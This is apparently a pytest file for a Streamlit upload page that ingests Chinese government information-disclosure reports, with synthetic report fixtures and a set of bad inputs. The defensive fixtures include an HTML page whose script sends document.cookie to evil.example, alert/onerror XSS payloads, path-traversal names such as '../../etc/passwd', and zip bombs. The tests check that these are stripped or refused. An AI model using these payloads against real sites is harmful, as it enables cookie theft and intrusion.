"""The "add reports" page: preview of each upload, every kind of bad input, confirming, and the page itself.

The preview and confirm logic (``app.upload``) is tested on real files: a copy of a bundled seed,
a report in the style of the dev corpus with the 2021 template tables (its figures are invented),
the same as DOCX and PDF, and each bad input the issue lists. The page runs under AppTest, which
can set the file uploader's files.
"""

from __future__ import annotations

import io
import shutil
import zipfile
from collections.abc import Iterator
from pathlib import Path

import docx
import duckdb
import pytest
import streamlit as st
from pdfmaker import make_pdf
from streamlit.testing.v1 import AppTest

from app import auth, upload
from etl.load import build_database
from etl.readers import MAX_BYTES, safe_name

REPO_ROOT = Path(__file__).resolve().parent.parent
SEEDS = REPO_ROOT / "data" / "raw" / "seeds"
SEED = "003_b8557501b183c911.txt"  # 潮州市湘桥区教育局 2017, 68 items disclosed
SEED_BYTES = (SEEDS / SEED).read_bytes()
HASH = auth.hash_password("pw-for-tests", iterations=auth.MIN_ITERATIONS)

T3_COLUMNS = 7
T3 = [
    ("一、本年新收政府信息公开申请数量", (12, 2, 0, 0, 0, 0, 14)),
    ("二、上年结转政府信息公开申请数量", (2, 0, 0, 0, 0, 0, 2)),
    ("三、本年度办理结果", None),
    ("（一）予以公开", (5, 1, 0, 0, 0, 0, 6)),
    ("（二）部分公开（区分处理的，只计这一情形，不计其他情形）", (2, 0, 0, 0, 0, 0, 2)),
    ("（三）不予公开", None),
    ("1.属于国家秘密", (0,) * 7), ("2.其他法律行政法规禁止公开", (0,) * 7),
    ("3.危及“三安全一稳定”", (0,) * 7), ("4.保护第三方合法权益", (1, 0, 0, 0, 0, 0, 1)),
    ("5.属于三类内部事务信息", (0,) * 7), ("6.属于四类过程性信息", (1, 0, 0, 0, 0, 0, 1)),
    ("7.属于行政执法案卷", (0,) * 7), ("8.属于行政查询事项", (0,) * 7),
    ("（四）无法提供", None),
    ("1.本机关不掌握相关政府信息", (2, 1, 0, 0, 0, 0, 3)), ("2.没有现成信息需要另行制作", (0,) * 7),
    ("3.补正后申请内容仍不明确", (1, 0, 0, 0, 0, 0, 1)),
    ("（五）不予处理", None),
    ("1.信访举报投诉类申请", (1, 0, 0, 0, 0, 0, 1)), ("2.重复申请", (0,) * 7), ("3.要求提供公开出版物", (0,) * 7),
    ("4.无正当理由大量反复申请", (0,) * 7), ("5.要求行政机关确认或重新出具已获取信息", (0,) * 7),
    ("（六）其他处理", None),
    ("1.申请人无正当理由逾期不补正、行政机关不再处理其政府信息公开申请", (0,) * 7),
    ("2.申请人逾期未按收费通知要求缴纳费用、行政机关不再处理其政府信息公开申请", (0,) * 7),
    ("3.其他", (0,) * 7),
    ("（七）总计", (13, 2, 0, 0, 0, 0, 15)),
    ("四、结转下年度继续办理", (1, 0, 0, 0, 0, 0, 1)),
]


def template_report(proactive: int = 512) -> str:
    """A 2021-template report in the style of the dev corpus; the bureau is real, every figure invented."""
    def row(*cells: object) -> str:
        return "| " + " | ".join(str(c) for c in cells) + " |"

    t3 = [row(label) if values is None else row(label, *values) for label, values in T3]
    return "\n".join([
        "湖州市德清县民政局2022年政府信息公开工作年度报告",
        "",
        "　　根据《中华人民共和国政府信息公开条例》和《中华人民共和国政府信息公开工作年度报告格式》要求，编制本报告。"
        "本报告所列数据统计期限自2022年1月1日起至2022年12月31日止。",
        "",
        "　　一、总体情况",
        f"　　（一）主动公开。2022年，我局主动公开政府信息{proactive}条。其中，德清县人民政府网站发布401条，"
        "“德清民政”微信公众号发布111条。",
        "　　（二）依申请公开。本年度新收政府信息公开申请14件，上年结转2件；已办结15件，结转下年度继续办理1件。",
        "",
        "　　二、主动公开政府信息情况",
        "",
        row("第二十条第（一）项"),
        row("信息内容", "本年制发件数", "本年废止件数", "现行有效件数"),
        row("规章", 0, 0, 0),
        row("行政规范性文件", 2, 1, 17),
        row("第二十条第（五）项"),
        row("信息内容", "本年处理决定数量"),
        row("行政许可", 96),
        row("第二十条第（六）项"),
        row("信息内容", "本年处理决定数量"),
        row("行政处罚", 0),
        row("行政强制", 0),
        row("第二十条第（八）项"),
        row("信息内容", "本年收费金额（单位：万元）"),
        row("行政事业性收费", 0),
        "",
        "　　三、收到和处理政府信息公开申请情况",
        "",
        row("（本列数据的勾稽关系为：第一项加第二项之和，等于第三项加第四项之和）", "申请人情况"),
        row("自然人", "法人或其他组织", "总计"),
        row("商业企业", "科研机构", "社会公益组织", "法律服务机构", "其他"),
        *t3,
        "",
        "　　四、政府信息公开行政复议、行政诉讼情况",
        "",
        row("行政复议", "行政诉讼"),
        row("未经复议直接起诉", "复议后起诉"),
        row(*(["结果维持", "结果纠正", "其他结果", "尚未审结", "总计"] * 3)),
        row(1, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0),
        "",
        "　　五、存在的主要问题及改进情况",
        "",
        "　　（一）问题。一是政策解读形式较为单一；二是个别栏目信息更新不够及时。",
        "　　（二）改进。一是丰富图解、视频等解读形式；二是建立栏目更新台账，每月检查。",
        "",
        "　　六、其他需要报告的事项",
        "",
        "　　本年度我局未收取信息处理费。",
    ]) + "\n"


TEMPLATE_BYTES = template_report().encode("utf-8")


def make_docx(lines: list[str]) -> bytes:
    document = docx.Document()
    for line in lines:
        if line.startswith("|"):
            cells = [c.strip() for c in line.strip("|").split("|")]
            table = document.add_table(rows=1, cols=len(cells))
            for cell, text in zip(table.rows[0].cells, cells, strict=True):
                cell.text = text
        elif line.strip():
            document.add_paragraph(line.strip())
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


PDF_REPORT = make_pdf([
    ["湖州市德清县民政局2021年政府信息公开工作年度报告", "一、总体情况", "2021年，我局主动公开政府信息386条。"],
    ["三、收到和处理政府信息公开申请情况", "本年度新收政府信息公开申请9件。"],
])


def zip_bytes(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


SCRIPT_PAGE = (
    "<html><head><meta charset='utf-8'><title>德清县民政局2020年政府信息公开工作年度报告</title>"
    "<script>document.location='https://evil.example/?c='+document.cookie</script></head><body>"
    "<div class='nav'>首页 | 政务公开</div><div class='content'>"
    "<h1>湖州市德清县民政局2020年政府信息公开工作年度报告</h1>"
    "<p>一、总体情况</p><p>2020年，我局主动公开政府信息233条。<script>alert('xss')</script></p>"
    "<p onclick=\"alert('x')\">本年度新收政府信息公开申请5件。</p>"
    "<img src=x onerror=alert(1)></div></body></html>"
).encode()

BAD_INPUTS: dict[str, tuple[str, bytes, str]] = {
    "empty": ("empty.txt", b"", "empty file (0 bytes)"),
    "whitespace": ("blank.txt", b" \r\n\t\n", "empty file (whitespace only)"),
    "binary junk": ("junk.txt", bytes(range(256)) * 8, "binary data, not text"),
    "binary junk named pdf": ("junk.pdf", bytes((i * 7 + 3) % 256 for i in range(2048)), "binary data, not text"),
    "truncated pdf": ("cut.pdf", PDF_REPORT[:400], "damaged PDF: "),
    "encrypted pdf": ("locked.pdf", make_pdf([["机密"]], encrypt=True), "encrypted PDF"),
    "zip bomb docx": ("bomb.docx", zip_bytes({"word/document.xml": b" " * (4 * 2**20)}), "zip bomb refused: "),
    "zip bomb docx, huge": ("huge.docx", zip_bytes({"word/document.xml": b"\0" * (51 * 2**20)}),
                            "zip bomb refused: "),
    "zip that is not a docx": ("notes.docx", zip_bytes({"notes.txt": b"hi"}), "ZIP archive that is not a Word"),
    "wrong extension": ("report.exe", TEMPLATE_BYTES, "unsupported file type .exe"),
    "no extension": ("../../etc/passwd", b"root:x:0:0", "no file extension"),
    "legacy doc": ("old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 64, "unsupported file type .doc"),
    "image named txt": ("scan.txt", b"\x89PNG\r\n\x1a\n" + b"\0" * 64, "image file (PNG)"),
}


@pytest.fixture(scope="session")
def seeds_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A database of the bundled seeds, built once; tests work on copies."""
    db = tmp_path_factory.mktemp("seeds_db") / "disclosure.duckdb"
    build_database([SEEDS], db, workers=1)
    return db


@pytest.fixture()
def db(seeds_db: Path, tmp_path: Path) -> Path:
    target = tmp_path / "data" / "disclosure.duckdb"
    target.parent.mkdir()
    shutil.copyfile(seeds_db, target)
    return target


def rows(db_path: Path, sql: str, params: list | None = None) -> list[tuple]:
    con = duckdb.connect()
    try:
        con.execute("ATTACH ? AS d (READ_ONLY)", [str(db_path)])
        con.execute("USE d")
        return con.execute(sql, params or []).fetchall()
    finally:
        con.close()


def headline(p: upload.Preview, metric: str) -> dict:
    return next(h for h in p.headlines if h["metric"] == metric)


# --- preview of good files -----------------------------------------------------------------------

def test_preview_of_a_seed() -> None:
    p = upload.preview(SEED, SEED_BYTES)
    assert p.readable and p.recognised and p.status == "new"
    assert (p.bureau, p.year) == ("潮州市湘桥区教育局", 2017)
    assert (p.province, p.city, p.county) == ("广东省", "潮州市", "湘桥区")
    assert p.kind == "txt" and p.era == "free_text"
    total = headline(p, "proactive_total")
    assert total["value"] == 68 and "68条" in total["evidence"]
    assert {h["dimension"] for h in p.headlines if h["metric"] == "channel"} == {"website", "wechat"}
    assert p.report_id == p.digest[:16]
    assert "湘桥区教育局" in p.excerpt
    assert p.data == SEED_BYTES


def test_preview_of_a_template_report() -> None:
    p = upload.preview("德清民政2022.txt", TEMPLATE_BYTES)
    assert p.readable and p.status == "new", p.reason
    assert (p.bureau, p.year, p.era, p.template_version) == ("湖州市德清县民政局", 2022, "template", "2021")
    assert headline(p, "proactive_total")["value"] == 512
    received = headline(p, "applications_received")
    assert received["value"] == 14 and "本年新收" in received["evidence"]
    assert headline(p, "reconsideration")["value"] == 1
    assert p.cells >= 200
    assert all(set(i) == {"rule", "severity", "message"} for i in p.issues)
    table = upload.headline_table(p, "zh")
    assert "主动公开总数" in set(table["指标"]) and "512" in set(table["原文写法"])
    summary = upload.summary_table([p], "en")
    assert summary.iloc[0].to_dict() | {"Note": ""} == {
        "File": "德清民政2022.txt", "Status": "new report", "Bureau": "湖州市德清县民政局", "Year": "2022",
        "Numbers": len(p.headlines), "Table cells": p.cells, "Validation issues": len(p.issues), "Note": ""}


def test_preview_of_the_template_report_as_docx() -> None:
    p = upload.preview("德清民政2022.docx", make_docx(template_report().splitlines()))
    assert p.readable, p.reason
    assert (p.kind, p.bureau, p.year, p.template_version) == ("docx", "湖州市德清县民政局", 2022, "2021")
    assert headline(p, "proactive_total")["value"] == 512
    assert p.cells >= 200


def test_preview_of_a_pdf_keeps_page_numbers() -> None:
    p = upload.preview("deqing-2021.pdf", PDF_REPORT)
    assert p.readable, p.reason
    assert (p.kind, p.bureau, p.year) == ("pdf", "湖州市德清县民政局", 2021)
    assert (headline(p, "proactive_total")["value"], headline(p, "proactive_total")["page"]) == (386, 1)
    assert (headline(p, "applications_received")["value"], headline(p, "applications_received")["page"]) == (9, 2)


def test_text_that_is_no_report_is_readable_but_not_ticked() -> None:
    p = upload.preview("notes.txt", "会议纪要：讨论了下周的安排。".encode())
    assert p.readable and not p.recognised
    assert p.status == "unrecognised" and p.loadable
    assert not upload.is_chosen(p, [])


# --- bad input: each a one-line reason -----------------------------------------------------------

@pytest.mark.parametrize("case", list(BAD_INPUTS))
def test_bad_input_gets_a_one_line_reason(case: str) -> None:
    name, data, reason = BAD_INPUTS[case]
    p = upload.preview(name, data)
    assert not p.readable and p.status == "unreadable"
    assert p.reason.startswith(reason) or reason in p.reason, p.reason
    assert "\n" not in p.reason and len(p.reason) <= upload.MAX_REASON
    assert not p.headlines and not p.excerpt


def test_a_200_mb_upload_is_refused_from_its_size_before_reading() -> None:
    p = upload.refuse_size("huge.pdf", 200 * 2**20)
    assert p is not None and not p.readable
    assert p.reason == f"file too large: 200.0 MB (limit {MAX_BYTES // 2**20} MB)"
    assert p.data == b""
    assert upload.refuse_size("ok.pdf", MAX_BYTES) is None
    assert upload.preview("big.txt", b"a" * (MAX_BYTES + 1)).reason.startswith("file too large")


def test_a_pdf_with_a_wrong_extension_is_read_by_content_with_a_note() -> None:
    p = upload.preview("report.txt", PDF_REPORT)
    assert p.readable and p.kind == "pdf"
    assert p.notes == ["wrong extension: .txt file whose content is pdf; read as pdf"]


def test_html_with_scripts_is_read_as_plain_text_without_them() -> None:
    p = upload.preview("page.html", SCRIPT_PAGE)
    assert p.readable and p.kind == "html"
    assert (p.bureau, p.year, headline(p, "proactive_total")["value"]) == ("湖州市德清县民政局", 2020, 233)
    assert any(n.startswith("HTML page with scripts") for n in p.notes)
    shown = p.excerpt + "".join(h["evidence"] for h in p.headlines)
    for fragment in ("document.cookie", "alert", "<script", "onerror", "evil.example"):
        assert fragment not in shown


@pytest.mark.parametrize(("name", "clean"), [
    ("../../etc/report.txt", "report.txt"),
    ("..\\..\\windows\\年报.txt", "年报.txt"),
    ("/abs/path/../x.txt", "x.txt"),
    ("..", "upload"),
    ("name\x00with\x07control.txt", "namewithcontrol.txt"),
])
def test_names_are_cleaned(name: str, clean: str) -> None:
    p = upload.preview(name, SEED_BYTES)
    assert p.name == clean
    if clean.endswith(".txt"):
        assert p.readable and p.notes[0].startswith("File name cleaned")
    else:
        assert p.reason == "no file extension: only TXT, HTML, HTM, PDF and DOCX are accepted"


def test_plain_escapes_markdown_and_joins_lines() -> None:
    text = upload.plain("![x](https://evil.example/t.png) **b** :red[r]\n<b>x</b>")
    assert "\n" not in text
    for raw in ("![", "](", "**", ":red[", "<b>"):
        assert raw not in text


# --- the batch: duplicates, content already loaded, versions ---------------------------------------

def test_annotate_marks_duplicates_known_content_and_new_versions(db: Path) -> None:
    revised = SEED_BYTES.replace("68条".encode(), "70条".encode(), 1)
    previews = [upload.preview(n, d) for n, d in (
        ("seed-copy.txt", SEED_BYTES), ("revised.txt", revised), ("again.txt", revised),
        ("template.txt", TEMPLATE_BYTES), ("empty.txt", b""))]
    marked = upload.annotate(previews, db)
    assert [p.status for p in marked] == ["known", "version", "duplicate", "new", "unreadable"]
    assert marked[0].known_as == previews[0].report_id
    assert marked[1].versions == 1
    assert marked[2].duplicate_of == "revised.txt"
    assert previews[2].duplicate_of is None  # the cached previews are left alone
    assert [p.status for p in upload.annotate(previews, None)][:3] == ["new", "new", "duplicate"]


# --- confirming ----------------------------------------------------------------------------------

def test_confirm_loads_skips_and_versions_and_the_rest_goes_on(db: Path) -> None:
    uploads = db.parent / "raw" / "uploads"
    before = {r for (r,) in rows(db, "SELECT report_id FROM reports")}
    revised = SEED_BYTES.replace("68条".encode(), "70条".encode(), 1)
    files = [("../../escape/德清民政2022.txt", TEMPLATE_BYTES), ("seed.txt", SEED_BYTES), ("revised.txt", revised),
             ("again.txt", revised), ("notes.txt", "会议纪要。".encode()),
             *[(name, data) for name, data, _ in BAD_INPUTS.values()]]
    previews = upload.annotate([upload.preview(n, d) for n, d in files], db)
    huge = upload.refuse_size("huge.pdf", 200 * 2**20)
    chosen = [p.digest for p in previews if p.recognised]
    outcomes = upload.confirm([*previews, huge], db, chosen=chosen)
    by_name = {o.name: o for o in outcomes}
    assert len(outcomes) == len(files) + 1

    loaded = by_name["德清民政2022.txt"]
    assert (loaded.status, loaded.bureau, loaded.year) == ("loaded", "湖州市德清县民政局", 2022)
    assert Path(loaded.stored) == uploads / "德清民政2022.txt"
    assert (uploads / "德清民政2022.txt").read_bytes() == TEMPLATE_BYTES

    versioned = by_name["revised.txt"]
    assert (versioned.status, versioned.version, versioned.versions) == ("versioned", 2, 2)
    assert by_name["seed.txt"].status == "skipped" and "already loaded" in by_name["seed.txt"].reason
    assert by_name["again.txt"].status == "skipped" and "same content" in by_name["again.txt"].reason
    assert by_name["notes.txt"].status == "skipped" and by_name["notes.txt"].reason == "not ticked: not loaded."
    assert by_name["huge.pdf"].status == "failed" and by_name["huge.pdf"].reason.startswith("file too large")
    for case, (name, _, reason) in BAD_INPUTS.items():
        outcome = by_name[safe_name(name)]
        assert outcome.status == "failed", case
        assert reason in outcome.reason, (case, outcome.reason)
    assert upload.counts(outcomes) == {"loaded": 1, "versioned": 1, "skipped": 3, "failed": len(BAD_INPUTS) + 1}

    after = {r for (r,) in rows(db, "SELECT report_id FROM reports")}
    assert before < after and len(after - before) == 2
    assert rows(db, "SELECT value FROM report_values WHERE metric = 'proactive_total' AND year = 2017 "
                    "AND bureau_id LIKE '%湘桥区%'") == [(70.0,)]
    assert rows(db, "SELECT count(*) FROM reports WHERE year = 2017 AND bureau_id LIKE '%湘桥区%' AND NOT is_active"
                ) == [(1,)]
    logged = dict(rows(db, "SELECT path, status FROM ingest_log WHERE path NOT LIKE '%seeds%'"))
    assert logged["德清民政2022.txt"] == "loaded" and logged["locked.pdf"] == "failed"
    assert sorted(p.name for p in uploads.iterdir()) == ["revised.txt", "德清民政2022.txt"]
    assert not list(db.parent.parent.glob("escape*")) and not (db.parent / "escape").exists()


def test_confirm_with_nothing_to_load_leaves_the_database_alone(db: Path) -> None:
    stamp = db.stat().st_mtime_ns
    previews = upload.annotate([upload.preview("seed.txt", SEED_BYTES), upload.preview("e.txt", b"")], db)
    outcomes = upload.confirm(previews, db)
    assert [o.status for o in outcomes] == ["skipped", "failed"]
    assert db.stat().st_mtime_ns == stamp


def test_confirm_creates_the_database_when_there_is_none(tmp_path: Path) -> None:
    target = tmp_path / "data" / "disclosure.duckdb"
    outcomes = upload.confirm([upload.preview("t.txt", TEMPLATE_BYTES)], target)
    assert [o.status for o in outcomes] == ["loaded"]
    assert rows(target, "SELECT year FROM active_reports") == [(2022,)]
    assert (tmp_path / "data" / "raw" / "uploads" / "t.txt").exists()


# --- the page ------------------------------------------------------------------------------------

@pytest.fixture()
def page_env(db: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    monkeypatch.chdir(REPO_ROOT)
    monkeypatch.setenv("DISCLOSURE_DB", str(db))
    monkeypatch.delenv(auth.ADMIN_ENV, raising=False)
    monkeypatch.delenv(auth.USERS_ENV, raising=False)
    st.cache_data.clear()
    st.cache_resource.clear()
    yield db
    st.cache_data.clear()
    st.cache_resource.clear()


def page(*, users: dict[str, str] | None = None, user: str | None = None, lang: str | None = None) -> AppTest:
    at = AppTest.from_file(REPO_ROOT / "pages" / "add_reports.py", default_timeout=120)
    if users is not None:
        at.secrets["auth"] = {"users": users}
    if user is not None:
        at.session_state[auth.SESSION_USER] = user
    if lang:
        at.query_params["lang"] = lang
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def markdown_text(at: AppTest) -> str:
    parts = [m.value for m in at.markdown] + [c.value for c in at.caption] + [e.label for e in at.expander]
    parts += [x.value for kind in ("info", "warning", "error", "success") for x in at.get(kind)]
    return "\n".join(parts)


def test_page_without_users_says_how_to_configure_sign_in(page_env: Path) -> None:
    at = page()
    assert at.title[0].value == "添加报告"
    assert "DISCLOSURE_ADMIN_PASSWORD" in at.warning[0].value
    assert not at.file_uploader and not at.get("button")


def test_page_signed_out_shows_the_sign_in_form_only(page_env: Path) -> None:
    at = page(users={"zhang": HASH}, lang="en")
    assert at.title[0].value == "Add reports"
    assert "need a sign-in" in at.info[0].value
    assert at.text_input(key="add_auth_form_password")
    assert not at.file_uploader


def test_page_sign_in_through_the_form(page_env: Path) -> None:
    at = page(users={"zhang": HASH})
    at.text_input(key="add_auth_form_user").input("zhang")
    at.text_input(key="add_auth_form_password").input("pw-for-tests")
    at.button[0].click().run()
    assert not at.exception
    assert at.file_uploader
    assert any(c.value == "已登录：zhang" for c in at.caption)


def test_page_upload_preview_and_confirm(page_env: Path) -> None:
    at = page(users={"zhang": HASH}, user="zhang", lang="en")
    assert at.slider(key="w_years").value == (2010, 2018)
    uploader = at.file_uploader[0]
    assert uploader.accept_multiple_files
    assert set(uploader.allowed_type) >= {".txt", ".html", ".htm", ".pdf", ".docx"}
    uploader.set_value([
        ("德清民政2022.txt", TEMPLATE_BYTES, "text/plain"),
        ("../page.html", SCRIPT_PAGE, "text/html"),
        ("seed.txt", SEED_BYTES, "text/plain"),
        ("locked.pdf", BAD_INPUTS["encrypted pdf"][1], "application/pdf"),
        ("empty.txt", b"", "text/plain"),
    ])
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    summary = at.dataframe[0].value
    assert list(summary["File"]) == ["德清民政2022.txt", "page.html", "seed.txt", "locked.pdf", "empty.txt"]
    assert list(summary["Status"]) == ["new report", "new report", "skipped: already loaded", "cannot be read",
                                       "cannot be read"]
    assert summary.set_index("File").loc["locked.pdf", "Note"] == "encrypted PDF"
    shown = markdown_text(at)
    for fragment in ("document.cookie", "alert(", "<script", "evil.example"):
        assert fragment not in shown
    assert any("湖州市德清县民政局" in str(d.value.to_dict()) for d in at.dataframe)
    confirm = at.button(key="upload_confirm")
    assert confirm.proto.label == "Load 2 file(s)"
    confirm.click().run()
    assert not at.exception, [e.value for e in at.exception]
    assert "2 loaded" in at.success[0].value or "Done" in at.success[0].value
    result = at.dataframe[0].value.set_index("File")
    assert result.loc["德清民政2022.txt", "Status"] == "loaded"
    assert result.loc["seed.txt", "Status"] == "skipped (same content)"
    assert result.loc["locked.pdf", "Status"] == "failed"
    assert not at.file_uploader[0].value
    assert at.slider(key="w_years").value == (2010, 2022)
    assert rows(page_env, "SELECT count(*) FROM active_reports WHERE year IN (2020, 2022)") == [(2,)]
    assert (page_env.parent / "raw" / "uploads" / "page.html").read_bytes() == SCRIPT_PAGE


def test_page_unticking_the_only_file_disables_confirm(page_env: Path) -> None:
    at = page(users={"zhang": HASH}, user="zhang", lang="en")
    at.file_uploader[0].set_value([("德清民政2022.txt", TEMPLATE_BYTES, "text/plain")]).run()
    assert not at.button(key="upload_confirm").disabled
    at.checkbox[0].uncheck().run()
    assert at.button(key="upload_confirm").disabled
    assert "Nothing to load." in markdown_text(at)
